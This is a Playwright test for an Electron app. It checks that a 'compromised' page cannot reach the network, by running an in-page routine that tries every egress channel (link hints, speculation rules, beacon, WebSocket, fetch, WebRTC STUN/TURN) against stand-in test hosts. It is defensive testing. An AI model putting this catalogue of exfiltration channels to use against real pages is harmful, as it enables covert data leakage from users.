import type { Page } from "@playwright/test";
import { expect, test } from "../e2e/fixtures";
import type { RunningApp } from "../e2e/running-app";
import { type CountingServers, type NameServer, packetsOf, startNameServer, startServers } from "./counters";

type Targets = { addresses: string[]; udpPort: number; tcpPort: number; label: string };

/** Runs in a page: tries every way out that a page has without the request filter, and collects the ICE candidates. */
async function attack({ addresses, udpPort, tcpPort, label }: Targets): Promise<void> {
  const name = (kind: string) => `${kind}-${label}.plusofon-test.example`;
  for (const kind of ["dns-prefetch", "preconnect", "prefetch", "prerender", "preload", "modulepreload"]) {
    const link = document.createElement("link");
    link.rel = kind;
    link.href = `https://${name(kind)}/`;
    if (kind === "preload") link.as = "image";
    document.head.append(link);
  }
  const control = document.createElement("meta");
  control.httpEquiv = "x-dns-prefetch-control";
  control.content = "on";
  document.head.append(control);
  for (const [element, attribute] of [
    ["a", "href"],
    ["img", "src"],
    ["iframe", "src"],
    ["video", "poster"],
    ["object", "data"],
    ["script", "src"],
  ] as const) {
    const made = document.createElement(element);
    made.setAttribute(attribute, `https://${name(element)}/`);
    if (element === "a") made.setAttribute("ping", `https://${name("ping")}/`);
    document.body.append(made);
    if (made instanceof HTMLAnchorElement) made.click();
  }
  const rules = document.createElement("script");
  rules.type = "speculationrules";
  rules.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [`https://${name("rules")}/`] }] });
  document.head.append(rules);
  navigator.sendBeacon(`https://${name("beacon")}/`, "key");
  for (const open of [
    () => new WebSocket(`wss://${name("socket")}/`),
    () => new EventSource(`https://${name("events")}/`),
    () => new Worker(`https://${name("worker")}/`),
    () => Reflect.construct(Reflect.get(globalThis, "WebTransport"), [`https://${name("transport")}/`]),
    () => fetch(`https://${name("fetch")}/`),
  ]) {
    try {
      Promise.resolve(open()).catch(() => undefined);
    } catch {
      // Refused at once.
    }
  }
  const turn = (address: string) => [
    `turn:${address}:${udpPort}?transport=udp`,
    `turn:${address}:${tcpPort}?transport=tcp`,
    `turns:${address}:${tcpPort}?transport=tcp`,
  ];
  const connection = new RTCPeerConnection({
    iceServers: [
      { urls: addresses.map((address) => `stun:${address}:${udpPort}`) },
      { urls: addresses.flatMap(turn), username: "the-access-key", credential: "x" },
      {
        urls: [`stun:${name("stun")}:${udpPort}`, `turn:${name("turn")}:${tcpPort}?transport=tcp`],
        username: "k",
        credential: "x",
      },
    ],
  });
  const candidates: string[] = [];
  Reflect.set(window, "candidates", candidates);
  connection.addEventListener("icecandidate", ({ candidate }) => {
    if (candidate?.candidate) candidates.push(candidate.candidate);
  });
  connection.createDataChannel("key");
  await connection.setLocalDescription(await connection.createOffer());
  // Another peer, at a plain address.
  const remote = `candidate:1 1 udp 2122260223 ${addresses[0]} ${udpPort} typ host`;
  const peer = new RTCPeerConnection();
  await peer.setRemoteDescription(connection.localDescription ?? { type: "offer", sdp: "" });
  await peer.setLocalDescription(await peer.createAnswer());
  await connection.setRemoteDescription(peer.localDescription ?? { type: "answer", sdp: "" });
  await connection.addIceCandidate({ candidate: remote, sdpMid: "0" }).catch(() => undefined);
}

/** What came of an attack so far: its candidates, and what a pair of servers and the name server have met. */
async function resultOf(page: Page, { servers, names, label }: Watched) {
  const candidates = await page.evaluate((): string[] => Reflect.get(window, "candidates"));
  return { ...servers.read(), names: names.names(label).length, candidates: candidates.length };
}

type Watched = { servers: CountingServers; names: NameServer; label: string };

/** A page in the same program that nothing restricts. */
async function openControl(app: RunningApp): Promise<Page> {
  const opened = app.electron.waitForEvent("window");
  await app.electron.evaluate(async ({ BrowserWindow, session }) => {
    const control = new BrowserWindow({
      show: false,
      webPreferences: { session: session.fromPartition("control") },
    });
    control.webContents.setWebRTCIPHandlingPolicy("default");
    await control.loadURL("data:text/html,<title>control</title>");
  });
  return opened;
}

test("a compromised page sends no packet and asks for no name; an ordinary page does both", async ({
  launch,
}) => {
  const { deviceName, ownAddress } = await import("./namespace.mjs");
  const names = await startNameServer();
  const watch = async (label: string): Promise<Watched> => ({ servers: await startServers(), names, label });
  const [ofPage, ofControl] = [await watch("page"), await watch("control")];
  const targets = ({ servers: { udpPort, tcpPort }, label }: Watched, addresses: string[]): Targets => ({
    addresses,
    udpPort,
    tcpPort,
    label,
  });
  const app = await launch();
  const page = await app.page();
  await expect(page.getByText("Неофициальная программа").first()).toBeVisible();
  const control = await openControl(app);
  const leftBefore = packetsOf(deviceName).sent;
  await page.evaluate(attack, targets(ofPage, ["127.0.0.1", ownAddress, "192.0.2.77"]));

  // The control: the same in a page that nothing restricts is counted. It begins later, so that its end is late enough for both.
  await control.evaluate(attack, targets(ofControl, ["127.0.0.1", ownAddress]));
  await expect(async () => {
    const { candidates, ...seen } = await resultOf(control, ofControl);
    for (const count of Object.values(seen)) expect(count, JSON.stringify(seen)).toBeGreaterThan(3);
    expect(candidates).toBeGreaterThan(0);
  }).toPass({ timeout: 30_000 });
  const nothing = { datagrams: 0, connections: 0, names: 0, candidates: 0 };
  expect({ ...(await resultOf(page, ofPage)), leftPackets: packetsOf(deviceName).sent }).toEqual({
    ...nothing,
    leftPackets: leftBefore,
  });
  await control.evaluate(attack, targets(ofControl, ["192.0.2.77"]));
  await expect.poll(() => packetsOf(deviceName).sent).toBeGreaterThan(leftBefore);
  expect(await resultOf(page, ofPage)).toEqual(nothing);
  for (const { close } of [ofPage.servers, ofControl.servers, names]) close();
});
